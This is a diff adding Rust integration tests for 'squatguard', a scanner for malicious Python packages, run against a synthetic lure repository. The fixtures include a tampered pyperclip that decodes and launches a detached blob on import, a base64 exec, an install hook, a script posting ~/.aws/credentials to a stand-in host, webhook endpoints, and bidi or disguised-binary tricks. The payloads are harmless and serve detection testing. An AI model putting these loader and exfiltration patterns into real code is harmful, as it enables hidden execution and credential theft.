@@ -1,0 +1,435 @@
+//! `squatguard scan` over a synthetic "coding test" repository shaped like the VMConnect lure:
+//! a small app with modified vendored copies of `pyperclip` and `pyrebase` whose `__init__.py`
+//! decodes and launches a payload on import. The payload is harmless (it decodes to
+//! `print("hello")`) and nothing scanned is ever executed: the tests only run squatguard.
+
+use serde_json::Value;
+use std::path::Path;
+use std::process::{Command, Output};
+
+fn squatguard(dir: &Path, args: &[&str]) -> Output {
+    let data_dir = tempfile::tempdir().unwrap();
+    Command::new(env!("CARGO_BIN_EXE_squatguard"))
+        .args(args)
+        .current_dir(dir)
+        .env("NO_COLOR", "1")
+        .env("SQUATGUARD_DATA_DIR", data_dir.path().display().to_string())
+        .env("SQUATGUARD_MAX_DATA_AGE", "100000")
+        .output()
+        .expect("run squatguard")
+}
+
+fn write(root: &Path, rel: &str, content: impl AsRef<[u8]>) {
+    let path = root.join(rel);
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(path, content).unwrap();
+}
+
+fn base64(bytes: &[u8]) -> String {
+    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in bytes.chunks(3) {
+        let v = (u32::from(chunk[0]) << 16)
+            | (u32::from(*chunk.get(1).unwrap_or(&0)) << 8)
+            | u32::from(*chunk.get(2).unwrap_or(&0));
+        for i in 0..4 {
+            if i <= chunk.len() {
+                out.push(A[(v >> (18 - 6 * i)) as usize & 63] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+fn hello_payload() -> String {
+    "print(\"hello\")\n".repeat(30)
+}
+
+const CLIPBOARD: &str = r#""""Cross-platform clipboard functions (vendored copy)."""
+import os
+import platform
+import subprocess
+
+__version__ = "1.8.2"
+
+
+def copy(text):
+    """Copy text to the clipboard."""
+    if platform.system() == "Darwin":
+        p = subprocess.Popen(["pbcopy", "w"], stdin=subprocess.PIPE, close_fds=True)
+        p.communicate(input=text.encode("utf-8"))
+
+
+def paste():
+    """Return the clipboard's text."""
+    if platform.system() == "Darwin":
+        p = subprocess.Popen(["pbpaste", "r"], stdout=subprocess.PIPE, close_fds=True)
+        out, _ = p.communicate()
+        return out.decode("utf-8")
+    return ""
+"#;
+
+/// The lure: the clipboard module plus a module-level call that decodes a blob into the temp
+/// directory and launches it detached.
+fn tampered_pyperclip() -> String {
+    format!(
+        r#"{CLIPBOARD}
+import base64
+import codecs
+import sys
+import tempfile
+
+_BLOB = "{blob}"
+_HOST = codecs.decode("uggcf://rknzcyr.vainyvq", "rot13")
+DETACHED_PROCESS = 0x00000008
+
+
+def _init():
+    data = base64.b64decode(_BLOB)
+    path = os.path.join(tempfile.gettempdir(), "clip_helper.py")
+    with open(path, "wb") as f:
+        f.write(data)
+    if os.name == "nt":
+        subprocess.Popen([sys.executable, path], creationflags=DETACHED_PROCESS)
+    else:
+        subprocess.Popen([sys.executable, path], preexec_fn=os.setpgrp)
+
+
+_init()
+"#,
+        blob = base64(hello_payload().as_bytes())
+    )
+}
+
+const PYREBASE: &str = r#""""Firebase wrapper (vendored copy)."""
+import base64
+
+
+def initialize_app(config):
+    exec(base64.b64decode("cHJpbnQoImhlbGxvIik="))
+    return config
+"#;
+
+const SETUP_PY: &str = r#"import os
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        os.system("echo hi")
+
+
+setup(name="password-manager", version="0.1", cmdclass={"install": PostInstall})
+"#;
+
+const BENIGN_APP: &str = r#"import ast
+import base64
+import subprocess
+
+import requests
+from flask import Flask
+
+app = Flask(__name__)
+ICON = "ICON_PLACEHOLDER"
+
+
+@app.route("/")
+def index():
+    r = requests.get("https://example.invalid/api")
+    return r.text
+
+
+def predict(model, s):
+    model.eval()
+    value = ast.literal_eval(s)
+    subprocess.run(["git", "status"], check=True)
+    return value
+"#;
+
+fn png_literal() -> String {
+    let mut png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR".to_vec();
+    png.extend((0..300u32).map(|i| (i * 7 % 251) as u8));
+    base64(&png)
+}
+
+/// Builds the synthetic repository; returns the JSON findings.
+fn coding_test_repo(root: &Path) {
+    write(
+        root,
+        "PasswordManager.py",
+        "import pyperclip\nimport pyrebase\n\n\ndef main():\n    pyperclip.copy(\"secret\")\n\n\nif __name__ == \"__main__\":\n    main()\n",
+    );
+    write(root, "requirements.txt", "requests==2.31.0\nflask\n");
+    write(root, "pyperclip/__init__.py", tampered_pyperclip());
+    write(root, "pyrebase/__init__.py", PYREBASE);
+    write(root, "setup.py", SETUP_PY);
+    write(
+        root,
+        "tests/conftest.py",
+        "import urllib.request\n\nurllib.request.urlopen(\"http://127.0.0.1:9/\")\n",
+    );
+    write(root, "x.pth", "import os; os.system(\"true\")\n");
+    write(
+        root,
+        "notify.py",
+        "WEBHOOK = \"https://discord.com/api/webhooks/123/abc\"\nBOT = \"https://api.telegram.org/bot123:abc/sendMessage\"\n",
+    );
+    write(
+        root,
+        "sync.py",
+        "import os\nimport requests\n\nCREDS = os.path.expanduser(\"~/.aws/credentials\")\n\n\ndef sync():\n    requests.post(\"https://example.invalid/u\", data=open(CREDS).read())\n",
+    );
+    write(
+        root,
+        "dyn.py",
+        "run = getattr(__builtins__, 'ex' + 'ec')\nrun(\"print('hello')\")\n",
+    );
+    write(
+        root,
+        "offscreen.py",
+        format!("x = 1{}; import os\n", " ".repeat(200)),
+    );
+    write(
+        root,
+        "bidi.py",
+        "def is_admin(user):\n    access = \"user\u{202E} \u{2066}# admin\u{2069} \u{2066}\"\n    return access == \"admin\"\n",
+    );
+    let mut mz = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
+    mz.extend([0u8; 48]);
+    write(root, "config.py", mz);
+    write(
+        root,
+        "helper.pyc",
+        b"\x55\x0d\x0d\x0a\x00\x00\x00\x00compiled",
+    );
+    let hex: String = "print(\"hello\")\n"
+        .repeat(11)
+        .bytes()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    assert!(hex.len() >= 300);
+    write(
+        root,
+        "assets.py",
+        format!(
+            "DATA = \"{}\"\nMORE = \"{hex}\"\n",
+            base64(hello_payload().as_bytes())
+        ),
+    );
+    write(
+        root,
+        "webapp/app.py",
+        BENIGN_APP.replace("ICON_PLACEHOLDER", &png_literal()),
+    );
+    write(root, "paths.pth", "/opt/project/lib\n");
+}
+
+fn findings(out: &Output) -> Vec<Value> {
+    let doc: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!(
+            "not JSON ({e}): {}\n{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        )
+    });
+    doc["findings"].as_array().unwrap().clone()
+}
+
+fn line_of(root: &Path, file: &str, needle: &str) -> u64 {
+    let text = std::fs::read_to_string(root.join(file)).unwrap();
+    text.lines()
+        .position(|l| l.contains(needle))
+        .unwrap_or_else(|| panic!("`{needle}` not in {file}")) as u64
+        + 1
+}
+
+#[track_caller]
+fn assert_fires(all: &[Value], rule: &str, file: &str, line: u64, severity: &str) {
+    let hit = all.iter().any(|f| {
+        f["rule"] == rule && f["file"] == file && f["line"] == line && f["severity"] == severity
+    });
+    assert!(
+        hit,
+        "expected {severity}[{rule}] at {file}:{line}; got:\n{}",
+        all.iter()
+            .map(|f| format!(
+                "{}:{} {}[{}] {}",
+                f["file"], f["line"], f["severity"], f["rule"], f["message"]
+            ))
+            .collect::<Vec<_>>()
+            .join("\n")
+    );
+}
+
+#[test]
+fn every_rule_fires_on_the_coding_test_repository() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    coding_test_repo(root);
+    let out = squatguard(root, &["scan", "--format", "json"]);
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let all = findings(&out);
+    let pc = "pyperclip/__init__.py";
+    let init_call = tampered_pyperclip()
+        .lines()
+        .position(|l| l == "_init()")
+        .unwrap() as u64
+        + 1;
+    assert_fires(&all, "import-time-code", pc, init_call, "error");
+    assert_fires(
+        &all,
+        "hidden-process",
+        pc,
+        line_of(root, pc, "creationflags=DETACHED"),
+        "error",
+    );
+    assert_fires(
+        &all,
+        "hidden-process",
+        pc,
+        line_of(root, pc, "preexec_fn=os.setpgrp"),
+        "error",
+    );
+    assert_fires(
+        &all,
+        "encoded-blob",
+        pc,
+        line_of(root, pc, "_BLOB = "),
+        "error",
+    );
+    assert_fires(
+        &all,
+        "exfil-endpoint",
+        pc,
+        line_of(root, pc, "uggcf://"),
+        "error",
+    );
+    assert_fires(&all, "vendored-package", pc, 1, "error");
+    let pr = "pyrebase/__init__.py";
+    assert_fires(&all, "decode-exec", pr, line_of(root, pr, "exec("), "error");
+    // `pyrebase` itself is not among the top packages (its live fork is `pyrebase4`)
+    assert!(!all
+        .iter()
+        .any(|f| f["rule"] == "vendored-package" && f["file"] == pr));
+    assert_fires(
+        &all,
+        "install-time-code",
+        "setup.py",
+        line_of(root, "setup.py", "os.system"),
+        "error",
+    );
+    assert_fires(
+        &all,
+        "install-time-code",
+        "setup.py",
+        line_of(root, "setup.py", "cmdclass="),
+        "note",
+    );
+    assert_fires(&all, "import-time-code", "tests/conftest.py", 3, "error");
+    assert_fires(&all, "import-time-code", "x.pth", 1, "error");
+    assert_fires(&all, "exfil-endpoint", "notify.py", 1, "warning");
+    assert_fires(&all, "exfil-endpoint", "notify.py", 2, "warning");
+    assert_fires(&all, "credential-access", "sync.py", 4, "error");
+    assert_fires(&all, "obfuscation", "dyn.py", 1, "error");
+    assert_fires(&all, "obfuscation", "offscreen.py", 1, "warning");
+    assert_fires(&all, "obfuscation", "bidi.py", 2, "warning");
+    assert_fires(&all, "disguised-binary", "config.py", 1, "error");
+    assert_fires(&all, "disguised-binary", "helper.pyc", 1, "warning");
+    assert_fires(&all, "encoded-blob", "assets.py", 1, "warning");
+    assert_fires(&all, "encoded-blob", "assets.py", 2, "warning");
+
+    // the encoded blob names what it decodes to
+    let blob = all
+        .iter()
+        .find(|f| f["rule"] == "encoded-blob" && f["file"] == "assets.py" && f["line"] == 1)
+        .unwrap();
+    assert!(
+        blob["message"]
+            .as_str()
+            .unwrap()
+            .contains("print(\"hello\")"),
+        "{blob}"
+    );
+
+    // benign code stays quiet: nothing above a note in the Flask app, the PNG is at most a note,
+    // a .pth holding a path, and the application's own entry point
+    for f in &all {
+        let file = f["file"].as_str().unwrap();
+        if matches!(file, "webapp/app.py" | "paths.pth" | "PasswordManager.py") {
+            assert_eq!(f["severity"], "note", "benign code flagged: {f}");
+        }
+    }
+    assert!(!all.iter().any(|f| f["file"] == "paths.pth"));
+    assert!(all.iter().any(|f| f["file"] == "webapp/app.py"
+        && f["rule"] == "encoded-blob"
+        && f["message"].as_str().unwrap().contains("PNG")));
+}
+
+#[test]
+fn the_untampered_vendored_copy_is_clean() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        root,
+        "PasswordManager.py",
+        "import pyperclip\npyperclip.copy('x')\n",
+    );
+    write(root, "pyperclip/__init__.py", CLIPBOARD);
+    let out = squatguard(root, &["scan", "--format", "json"]);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    let all = findings(&out);
+    assert!(all.iter().all(|f| f["severity"] == "note"), "{all:?}");
+    assert!(all
+        .iter()
+        .any(|f| f["rule"] == "vendored-package" && f["package"] == "pyperclip"));
+}
+
+#[test]
+fn select_ignore_and_human_output_work_as_in_check() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    coding_test_repo(root);
+    let out = squatguard(root, &["scan", "--select", "SG409", "--format", "json"]);
+    let all = findings(&out);
+    assert!(!all.is_empty());
+    assert!(all.iter().all(|f| f["rule"] == "disguised-binary"));
+    let out = squatguard(
+        root,
+        &[
+            "scan",
+            "--ignore",
+            "SG401,SG403,SG404,SG405,SG406,SG407,SG408,SG409,SG410,SG402",
+        ],
+    );
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    let out = squatguard(root, &["scan", "dyn.py"]);
+    assert_eq!(out.status.code(), Some(1));
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("dyn.py:1:7: error[obfuscation]"), "{text}");
+}
+
+#[test]
+fn a_missing_directory_cannot_be_scanned() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = squatguard(dir.path(), &["scan", "nope"]);
+    assert_eq!(out.status.code(), Some(2));
+}
